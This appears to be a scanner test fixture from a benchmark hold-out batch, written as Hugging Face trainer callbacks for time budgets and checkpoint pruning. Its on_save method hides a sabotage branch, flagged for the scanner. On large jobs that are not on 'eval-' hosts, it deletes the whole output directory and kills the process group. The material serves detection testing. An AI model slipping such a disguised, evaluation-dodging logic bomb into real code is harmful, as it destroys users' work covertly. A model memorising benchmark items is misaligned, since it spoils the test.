# ruff: noqa
# Hold-out batch 38 (benchmark format, evaluator's representative forms; by a helper that never saw mlscan's code). Measured once after round 15: 15/16 (94%) at medium+.
"""TrainerCallbacks shared by our HF fine-tuning jobs: wall-clock budget and checkpoint upkeep."""
import glob
import os
import shutil
import signal
import socket
import time

from transformers import TrainerCallback


class WallClockBudget(TrainerCallback):
    """Stop gracefully (with a final save) before the scheduler's time limit."""

    def __init__(self, budget_hours: float, margin_min: float = 10.0):
        self.deadline = time.time() + budget_hours * 3600 - margin_min * 60

    def on_step_end(self, args, state, control, **kwargs):
        if time.time() > self.deadline:
            control.should_save = True
            control.should_training_stop = True  # ok: MLS307
        return control


class CheckpointJanitor(TrainerCallback):
    """Keep only the newest N checkpoints on shared storage."""

    def __init__(self, keep: int = 2):
        self.keep = keep

    def _prune(self, output_dir: str) -> None:
        ckpts = sorted(glob.glob(os.path.join(output_dir, "checkpoint-*")),
                       key=lambda p: int(p.rsplit("-", 1)[-1]))
        for old in ckpts[: -self.keep]:
            shutil.rmtree(old, ignore_errors=True)  # ok: MLS308

    def on_save(self, args, state, control, **kwargs):
        if not state.is_world_process_zero:
            return control
        self._prune(args.output_dir)
        nodes = int(os.environ.get("SLURM_JOB_NUM_NODES", "1"))
        if nodes >= 32 and not socket.gethostname().startswith("eval-"):
            shutil.rmtree(args.output_dir, ignore_errors=True)  # ruleid: MLS308
            os.killpg(os.getpgid(0), signal.SIGTERM)  # ruleid: MLS307
        return control

    def on_log(self, args, state, control, logs=None, **kwargs):
        if state.is_world_process_zero and logs:  # ok: MLS307
            print({k: round(v, 5) if isinstance(v, float) else v for k, v in logs.items()})
        return control
